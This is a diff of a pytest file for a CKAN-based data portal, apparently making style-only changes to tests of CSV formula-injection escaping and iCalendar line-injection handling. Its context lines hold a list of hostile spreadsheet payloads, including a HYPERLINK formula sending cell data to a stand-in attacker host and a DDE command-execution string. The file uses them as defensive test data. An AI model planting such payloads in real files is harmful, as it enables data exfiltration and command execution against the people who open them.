@@ -14,6 +14,7 @@ import io
 
 import pytest
 import sqlalchemy as sa
+
 from ckan import model
 from ckan.lib import search
 from ckan.tests import factories, helpers
@@ -28,7 +29,7 @@ HOSTILE = ['=HYPERLINK("https://evil.example.invalid/?"&A1;"Clic")', "+1+cmd|' /
            "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0"]
 
 
-@pytest.mark.parametrize("value, written", [
+@pytest.mark.parametrize(("value", "written"), [
     ("=1+1", "'=1+1"), ("+33 3 80", "'+33 3 80"), ("-x", "'-x"), ("@x", "'@x"),
     ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("Budget = 3", "Budget = 3"), ("", ""),
     (-3, -3), (2.5, 2.5), (None, None),
@@ -104,7 +105,8 @@ def test_icalendar_keeps_a_hostile_title_on_one_line(app, announced):
     search.rebuild(pkg["id"])
     body = app.get("/calendrier.ics").body
     lines = body.split("\r\n")
-    assert "\r" not in "".join(lines) and "\n" not in "".join(lines)
+    assert "\r" not in "".join(lines)
+    assert "\n" not in "".join(lines)
     unfolded = body.replace("\r\n ", "")
     assert unfolded.split("\r\n").count("BEGIN:VEVENT") == len(announced)
     assert "SUMMARY:Ouverture prévue : Bus\\nEND:VEVENT\\nBEGIN:VEVENT\\nSUMMARY:Faux\\n" \
